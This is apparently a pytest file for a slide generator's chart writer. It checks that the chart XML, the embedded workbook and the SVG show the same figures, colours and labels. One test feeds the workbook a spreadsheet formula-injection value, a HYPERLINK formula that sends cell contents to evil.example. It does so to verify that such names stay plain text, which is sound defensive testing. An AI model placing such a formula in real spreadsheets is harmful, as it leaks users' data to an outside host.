"""The chart part, its workbook and its SVG show the same figures in the same order, colours and words."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from functools import cache
from itertools import combinations
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from pptx import Presentation
from pptx.chart.chart import Chart as NativeChart
from pptx.opc.packuri import PackURI
from pptx.parts.chart import ChartPart

from generator import theme as themes
from generator.document import Chart, ChartType, Series, Text
from generator.theme import Theme, contrast
from generator.writers.charts import chart_part, format_number, natural_height, svg, unit, workbook
from generator.writers.charts.plan import plan
from generator.writers.measure import Words, natural_width

C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
S = "{http://www.w3.org/2000/svg}"
TYPES: tuple[ChartType, ...] = ("bar", "column", "stacked", "percent", "line")


@cache
def theme() -> Theme:
    return themes.load(Path(__file__).parents[1] / "templates/themes/default")


def series(name: str, *values: str | int | float | None) -> Series:
    return Series(name, tuple(None if value is None else Decimal(str(value)) for value in values))


def shares(**changes: object) -> Chart:
    """Share of voice of four fictional brands."""
    given_: dict[str, object] = {
        "type": "bar",
        "categories": ("晨曦乳业", "蓝湾鲜奶", "牧野", "北岭"),
        "series": (series("声量份额", "0.342", "0.251", "0.182", "0.104"),),
        "number_format": "0.0%",
        "unit": "%",
        "alt": "声量份额横条图",
        **changes,
    }
    return Chart(**given_)  # type: ignore[arg-type]


def two_years(kind: ChartType = "column", **changes: object) -> Chart:
    figures: dict[str, object] = {"series": (series("2025", 120, 90, 80), series("2026", 150, None, 85)), "number_format": "#,##0"}
    return shares(type=kind, categories=("Q1", "Q2", "Q3"), **{**figures, **changes})


def part(chart: Chart, **options: float) -> etree._Element:
    return etree.fromstring(chart_part(chart, theme(), ("zh-CN",), "rId7", **options))  # type: ignore[arg-type]  # sizes only


def drawing(chart: Chart, width: float = 480, height: float = 240) -> etree._Element:
    return etree.fromstring(svg(chart, theme(), width, height).encode())


def texts(root: etree._Element) -> list[str]:
    return [str(element.text) for element in root.iter(f"{S}text")]


def cells(chart: Chart) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(workbook(chart)))
    return [[cell.value for cell in row] for row in book["Sheet1"].iter_rows()]


def native(chart: Chart) -> NativeChart:
    """The chart as python-pptx reads it."""
    package = Presentation().part.package
    content = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    loaded: NativeChart = ChartPart.load(
        PackURI("/ppt/charts/chart1.xml"), content, package, chart_part(chart, theme(), ("zh-CN",), "rId1")
    ).chart
    return loaded


# ------------------------------------------------------------------------------------------------------------------ numbers


@pytest.mark.parametrize(
    ("value", "code", "words"),
    [
        ("1234567", "#,##0", "1,234,567"),
        ("999", "#,##0", "999"),
        ("0.5", "#,##0", "1"),
        ("1.25", "#,##0.0", "1.3"),
        ("-1234.5", "#,##0", "-1,235"),
        ("0.1234", "0.0%", "12.3%"),
        ("0.125", "0%", "13%"),
        ("2.675", "0.00", "2.68"),
        ("-5", "#,##0;-#,##0", "-5"),
        ("-5", "#,##0;(#,##0)", "(5)"),
        ("-0.3", "#,##0;(#,##0)", "0"),
        ("0", "0;-0;–", "–"),
        ("3.14159", '0.0"亿元"', "3.1亿元"),
        ("3", '"¥"#,##0', "¥3"),
        ("-0.004", "0.00", "0.00"),
        ("1.50", "0.##", "1.5"),
        ("2", "0.##", "2"),
        ("1234567", '#,##0,"k"', "1,235k"),
        ("12", '0"%"', "12%"),
        ("7", "000", "007"),
        ("1.20", "General", "1.2"),
        ("1E+3", "General", "1000"),
        ("5", '0";"', "5;"),
    ],
)
def test_a_number_is_written_as_its_format_code_says(value: str, code: str, words: str) -> None:
    assert format_number(Decimal(value), code) == words


# --------------------------------------------------------------------------------------------------------------------- part


@pytest.mark.parametrize("kind", TYPES)
def test_the_children_of_the_chart_space_stand_in_the_order_of_the_schema(kind: ChartType) -> None:
    root = part(two_years(kind))
    assert [child.tag.removeprefix(C) for child in root] == ["date1904", "lang", "roundedCorners", "chart", "spPr", "txPr", "externalData"]
    plot_area = root.find(f"{C}chart/{C}plotArea")
    assert plot_area is not None
    assert [child.tag.removeprefix(C) for child in plot_area][2:] == ["catAx", "valAx", "spPr"]
    external = root[-1]
    assert external.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id") == "rId7"
    assert [child.get("val") for child in external] == ["0"]


def test_axis_ids_are_positive_and_pair() -> None:
    root = part(two_years())
    of_plot = [element.get("val") for element in root.iterfind(f".//{C}barChart/{C}axId")]
    of_axes = [element.get("val") for element in root.iterfind(f".//{C}catAx/{C}axId")]
    of_axes += [element.get("val") for element in root.iterfind(f".//{C}valAx/{C}axId")]
    assert of_plot == of_axes
    assert all(int(str(value)) > 0 for value in of_plot)
    assert [element.get("val") for element in root.iter(f"{C}crossAx")] == of_axes[::-1]


def test_every_text_names_a_latin_and_an_east_asian_font() -> None:
    runs = list(part(two_years()).iter(f"{A}defRPr"))
    assert runs
    for run in runs:
        assert [run.find(f"{A}{slot}").get("typeface") for slot in ("latin", "ea")] == ["Arial", "Microsoft YaHei"]  # type: ignore[union-attr]


def test_the_caption_is_not_doubled_and_gaps_stay_gaps() -> None:
    chart = part(two_years()).find(f"{C}chart")
    assert chart is not None
    assert chart.find(f"{C}title") is None
    assert chart.find(f"{C}autoTitleDeleted").get("val") == "1"  # type: ignore[union-attr]
    assert chart.find(f"{C}dispBlanksAs").get("val") == "gap"  # type: ignore[union-attr]
    points = [[pt.get("idx") for pt in cache.iter(f"{C}pt")] for cache in chart.iter(f"{C}numCache")]
    assert points == [["0", "1", "2"], ["0", "2"]]


def test_horizontal_bars_have_their_first_category_on_top() -> None:
    root = part(shares())
    assert root.find(f".//{C}barDir").get("val") == "bar"  # type: ignore[union-attr]
    assert root.find(f".//{C}catAx/{C}scaling/{C}orientation").get("val") == "maxMin"  # type: ignore[union-attr]


def test_a_legend_stands_only_where_there_is_more_than_one_series() -> None:
    assert part(shares()).find(f".//{C}legend") is None
    assert part(two_years()).find(f".//{C}legend") is not None


def test_a_value_axis_stands_only_where_figures_are_not_written() -> None:
    def deleted(chart: Chart) -> str | None:
        return part(chart).find(f".//{C}valAx/{C}delete").get("val")  # type: ignore[union-attr]

    crowded = shares(type="column", categories=tuple(map(str, range(40))), series=(series("a", *range(1000000, 1000040)),))
    assert deleted(shares()) == "1"
    assert deleted(crowded) == "0"
    assert part(crowded).find(f".//{C}majorGridlines") is not None
    assert part(shares()).find(f".//{C}majorGridlines") is None


@pytest.mark.parametrize("kind", TYPES)
def test_python_pptx_reads_categories_and_values(kind: ChartType) -> None:
    chart = two_years(kind, **({"number_format": "0%"} if kind == "percent" else {}))
    read = native(chart)
    (plot,) = read.plots
    assert tuple(plot.categories) == chart.categories
    assert [(s.name, tuple(s.values)) for s in plot.series] == [
        (s.name, tuple(None if v is None else float(v) for v in s.values)) for s in chart.series
    ]


def test_lines_apart_are_named_at_their_ends_and_lines_together_in_a_legend() -> None:
    apart = shares(type="line", categories=("1月", "2月"), series=(series("晨曦", 10, 30), series("蓝湾", 20, 12)), number_format="0")
    together = shares(type="line", categories=("1月", "2月"), series=(series("晨曦", 10, 30), series("蓝湾", 20, 30)), number_format="0")
    assert part(apart).find(f".//{C}legend") is None
    assert [label.find(f"{C}showSerName").get("val") for label in part(apart).iter(f"{C}dLbl")] == ["1", "1"]  # type: ignore[union-attr]
    assert {"晨曦 30", "蓝湾 12"} <= set(texts(drawing(apart)))
    assert part(together).find(f".//{C}legend") is not None


# ------------------------------------------------------------------------------------------------------------------- colours


def fills(chart: Chart) -> list[str]:
    return [str(rect.get("fill")).removeprefix("#") for rect in drawing(chart).iter(f"{S}rect")]


def test_the_highlighted_category_takes_the_accent_and_the_others_share_one_colour() -> None:
    chart = shares(highlight="蓝湾鲜奶")
    accent = theme().colours["accent"]
    own = theme().series[0]
    assert fills(chart) == [own, accent, own, own]
    points = {
        int(point.find(f"{C}idx").get("val")): point.find(f".//{A}srgbClr").get("val")  # type: ignore[union-attr,arg-type]
        for point in part(chart).iter(f"{C}dPt")
    }
    base = part(chart).find(f".//{C}ser/{C}spPr/{A}solidFill/{A}srgbClr").get("val")  # type: ignore[union-attr]
    assert [points.get(i, base) for i in range(4)] == [own, accent, own, own]


def test_a_highlighted_series_takes_the_accent_and_the_others_do_not_move() -> None:
    plain, marked = (plan(two_years(highlight=name), theme(), 480, 240, 9).series for name in ("", "2025"))
    assert [s.colour for s in marked] == [theme().colours["accent"], plain[1].colour]


def test_a_bilingual_name_is_highlighted_by_its_first_language() -> None:
    chart = shares(categories=("晨曦\nMorning Glow", "蓝湾\nBlue Bay"), series=(series("s", 1, 2),), highlight="蓝湾")
    assert fills(chart)[1] == theme().colours["accent"]


def test_media_have_their_own_palette() -> None:
    chart = two_years("stacked", palette="media")
    assert [s.colour for s in plan(chart, theme(), 480, 240, 9).series] == list(theme().media[:2])


def test_figures_read_on_their_segments() -> None:
    chart = two_years("stacked", series=tuple(series(str(i), 9, 9, 9) for i in range(8)))
    for label in part(chart).iterfind(f".//{C}ser"):
        fill = label.find(f"{C}spPr/{A}solidFill/{A}srgbClr").get("val")  # type: ignore[union-attr]
        words = label.find(f"{C}dLbls/{C}txPr//{A}srgbClr").get("val")  # type: ignore[union-attr]
        assert contrast(str(fill), str(words)) >= 3.9  # the best of ink and paper on a middle grey-blue


def test_pale_fills_are_outlined_and_pale_lines_darkened() -> None:
    pale = theme().series[2]
    assert contrast(pale, "FFFFFF") < 3
    three = tuple(series(str(i), 1 + 30 * i, 2 + 30 * i) for i in range(3))
    bars, lines = (shares(type=kind, categories=("a", "b"), series=three, number_format="0") for kind in ("column", "line"))
    outlines = [ser.find(f"{C}spPr/{A}ln/{A}solidFill") is not None for ser in part(bars).iter(f"{C}ser")]
    assert outlines == [False, False, True]
    assert all(contrast(s.colour, "FFFFFF") >= 3 for s in plan(lines, theme(), 480, 240, 9).series)


# ------------------------------------------------------------------------------------------------------------------- figures


def test_the_workbook_holds_the_figures_and_nothing_else() -> None:
    assert cells(two_years()) == [["%", "2025", "2026"], ["Q1", 120, 150], ["Q2", 90, None], ["Q3", 80, 85]]


def test_the_workbook_reads_the_same_in_a_second_reader() -> None:
    calamine = pytest.importorskip("python_calamine")
    sheet = calamine.load_workbook(io.BytesIO(workbook(two_years()))).get_sheet_by_name("Sheet1")
    assert sheet.to_python() == [["%", "2025", "2026"], ["Q1", 120.0, 150.0], ["Q2", 90.0, ""], ["Q3", 80.0, 85.0]]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-5", "@SUM", " a ", "a\nb", "<&>\"'", "\t=1"])
def test_text_in_the_workbook_stays_text(name: str) -> None:
    chart = shares(categories=(name, "b"), series=(series("s", 1, 2),))
    book = openpyxl.load_workbook(io.BytesIO(workbook(chart)))
    cell = book["Sheet1"]["A2"]
    assert (cell.value, cell.data_type) == (name, "s")


def test_an_escape_of_excel_in_a_name_is_itself_escaped() -> None:
    chart = shares(categories=("_x0041_", "b"), series=(series("s", 1, 2),))
    with zipfile.ZipFile(io.BytesIO(workbook(chart))) as package:
        assert "<t>_x005F_x0041_</t>" in package.read("xl/worksheets/sheet1.xml").decode()  # Excel shows _x0041_


def test_the_workbook_is_the_same_bytes_every_time() -> None:
    assert workbook(two_years()) == workbook(two_years())


def test_a_chart_of_whole_columns_shows_shares_everywhere() -> None:
    made = (series("TV", 30, 1), series("OOH", 10, 1))
    chart = shares(type="percent", categories=("甲", "乙"), series=made, number_format="#,##0", unit="万元")
    assert cells(chart)[1:] == [["甲", 0.75, 0.25], ["乙", 0.5, 0.5]]
    assert [tuple(s.values) for s in native(chart).plots[0].series] == [(0.75, 0.5), (0.25, 0.5)]
    assert texts(drawing(chart)).count("50%") == 2
    assert unit(chart) == cells(chart)[0][0] == "%"
    assert {"75%", "25%"} <= set(texts(drawing(chart)))


def test_a_chart_states_its_own_unit_where_it_shows_its_own_figures() -> None:
    assert unit(two_years(unit="万元")) == cells(two_years(unit="万元"))[0][0] == "万元"


def test_shares_given_in_percent_are_taken_as_they_are() -> None:
    chart = shares(type="percent", categories=("甲",), series=(series("TV", "0.6"), series("OOH", "0.4")), number_format="0.0%")
    assert cells(chart)[1] == ["甲", 0.6, 0.4]
    assert {"60.0%", "40.0%"} <= set(texts(drawing(chart)))


def test_a_bar_is_as_long_as_its_figure() -> None:
    lengths = [float(str(rect.get("width"))) for rect in drawing(shares()).iter(f"{S}rect")]
    assert lengths[1] / lengths[0] == pytest.approx(0.251 / 0.342, abs=0.001)
    assert lengths[3] / lengths[0] == pytest.approx(0.104 / 0.342, abs=0.001)


def test_a_gap_breaks_the_line() -> None:
    chart = shares(type="line", categories=tuple("abcde"), series=(series("s", 1, 2, None, 4, 5),), number_format="0")
    lines = [str(line.get("points")).count(",") for line in drawing(chart).iter(f"{S}polyline")]
    assert lines == [2, 2]
    assert len(list(drawing(chart).iter(f"{S}circle"))) == 4


def test_negative_figures_hang_below_zero_and_labels_of_categories_stay_below_them() -> None:
    root = drawing(shares(type="column", categories=("a", "b"), series=(series("s", 10, -4),), number_format="0"))
    up, down = ((float(str(r.get("y"))), float(str(r.get("height")))) for r in root.iter(f"{S}rect"))
    assert up[0] + up[1] == pytest.approx(down[0], abs=0.02)
    label = next(t for t in root.iter(f"{S}text") if t.text == "b")
    assert float(str(label.get("y"))) > down[0] + down[1]


# ----------------------------------------------------------------------------------------------------------------------- svg


def test_the_svg_stands_alone_and_begins_with_its_title() -> None:
    root = drawing(shares())
    assert root.tag == f"{S}svg"
    assert (root[0].tag, root[0].text) == (f"{S}title", "声量份额横条图")
    assert "Noto Sans CJK SC" in str(root.get("font-family"))
    assert not re.search(r"href|url\(|<script| on\w+=", svg(shares(), theme(), 480, 240))


def test_the_svg_is_titled_by_its_caption_where_it_has_no_alternative_text() -> None:
    assert drawing(shares(alt="", title=(Text("我们领先"),)))[0].text == "我们领先"


def test_the_second_language_is_smaller_and_grey() -> None:
    root = drawing(shares(categories=("晨曦\nMorning Glow", "蓝湾\nBlue Bay"), series=(series("s", 1, 2),)))
    first, second = (next(t for t in root.iter(f"{S}text") if t.text == words) for words in ("晨曦", "Morning Glow"))
    assert float(str(second.get("font-size"))) < float(str(first.get("font-size")))
    assert second.get("fill") == f"#{theme().colours['grey']}"


def text_boxes(root: etree._Element) -> list[tuple[float, float, float, float, str]]:
    """Left, top, right, bottom and words of every text, by the width tables; capitals are 0.72 em high."""
    found = []
    for element in root.iter(f"{S}text"):
        x, y, size = (float(str(element.get(name))) for name in ("x", "y", "font-size"))
        wide = natural_width([Words(str(element.text), size)], "Arial")
        left = x - {"start": 0.0, "middle": wide / 2, "end": wide}[str(element.get("text-anchor"))]
        found.append((left, y - 0.72 * size, left + wide, y, str(element.text)))
    return found


def outside(root: etree._Element) -> list[str]:
    """The texts that leave the box (a point of tolerance)."""
    width, height = (float(str(root.get(side)).removesuffix("pt")) for side in ("width", "height"))
    boxes = text_boxes(root)
    return [words for left, top, right, bottom, words in boxes if left < -1 or top < -1 or right > width + 1 or bottom > height + 1]


def overlapping(root: etree._Element) -> list[tuple[str, str]]:
    """The pairs of texts that stand on each other."""
    return [
        (a[4], b[4])
        for a, b in combinations(text_boxes(root), 2)
        if min(a[2], b[2]) - max(a[0], b[0]) > 1 and min(a[3], b[3]) - max(a[1], b[1]) > 1
    ]


LONG = (
    "一个非常非常非常长而且没有任何空格的类别名称用来测试换行\n"
    "An extraordinarily long category name, with Donaudampfschifffahrtsgesellschaft in it"
)


@pytest.mark.parametrize("kind", TYPES)
@pytest.mark.parametrize(
    ("names", "rows"),
    [
        ((LONG, "短"), 1),
        ((LONG,), 3),
        (tuple(f"2026年{i}月\nMonth {i}" for i in range(1, 13)), 6),
        (("one",), 1),
        (tuple(f"城市{i}" for i in range(40)), 1),
    ],
)
def test_no_text_leaves_the_box_or_stands_on_another(kind: ChartType, names: tuple[str, ...], rows: int) -> None:
    made = tuple(series(f"系列{k} Series number {k}", *(1234567 * (i + k + 1) for i in range(len(names)))) for k in range(rows))
    chart = shares(type=kind, categories=names, series=made, number_format="#,##0")
    for width, height in ((480.0, 240.0), (240.0, 200.0), (860.0, 380.0)):
        assert outside(drawing(chart, width, height)) == []
        assert overlapping(drawing(chart, width, height)) == []


def test_more_bars_ask_for_more_height() -> None:
    few, many = (shares(categories=tuple(map(str, range(n))), series=(series("s", *range(n)),)) for n in (3, 12))
    assert natural_height(few, 480) < natural_height(many, 480)
    assert plan(many, theme(), 480, natural_height(many, 480), 9).value_axis is False
    assert natural_height(shares(categories=tuple(map(str, range(200)))), 480) <= 500  # a page is 700 pt high


# ---------------------------------------------------------------------------------------------------------------- generated

NAMES = st.text(st.characters(min_codepoint=32, max_codepoint=0x9FFF, exclude_categories=("Cs", "Cc")), min_size=1, max_size=24)
FIGURES = st.none() | st.decimals(-(10**9), 10**9, places=2, allow_nan=False)


@st.composite
def charts(draw: st.DrawFn) -> Chart:
    count = draw(st.integers(1, 9))
    rows = st.lists(FIGURES, min_size=count, max_size=count).map(tuple)
    categories = draw(st.lists(NAMES, min_size=count, max_size=count).map(tuple))
    made = draw(st.lists(st.builds(Series, NAMES, rows), min_size=1, max_size=5).map(tuple))
    code = draw(st.sampled_from(("#,##0", "0.0%", "#,##0.00", '0.0"亿"', "#,##0;-#,##0")))
    highlight = draw(st.sampled_from(("", categories[0], made[-1].name)))
    return Chart(draw(st.sampled_from(TYPES)), categories, made, number_format=code, highlight=highlight)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(charts())
def test_any_chart_shows_the_same_figures_in_part_workbook_and_svg(chart: Chart) -> None:
    shown = plan(chart, theme(), 480, 240, 9)
    root = part(chart)
    read = [
        [next((Decimal(str(pt[0].text)) for pt in cache if pt.get("idx") == str(i)), None) for i in range(len(chart.categories))]
        for cache in root.iter(f"{C}numCache")
    ]
    assert read == [list(s.values) for s in shown.series]
    if chart.type != "percent":
        assert read == [list(s.values) for s in chart.series]
    rows = cells(chart)
    for index, row in enumerate(read, 1):
        assert [rows[i + 1][index] if index < len(rows[i + 1]) else None for i in range(len(row))] == [
            None if value is None else pytest.approx(float(value)) for value in row
        ]
    assert not outside(drawing(chart))
    assert not overlapping(drawing(chart))
    words = texts(drawing(chart))
    for s in shown.series:
        for point in s.labelled:
            assert shown.label(s, point) in words
    labels = [i for ser in root.iter(f"{C}ser") for i in ser.iterfind(f"{C}dLbls/{C}showVal") if i.get("val") == "1"]
    assert len(labels) == sum(bool(s.labelled) for s in shown.series)
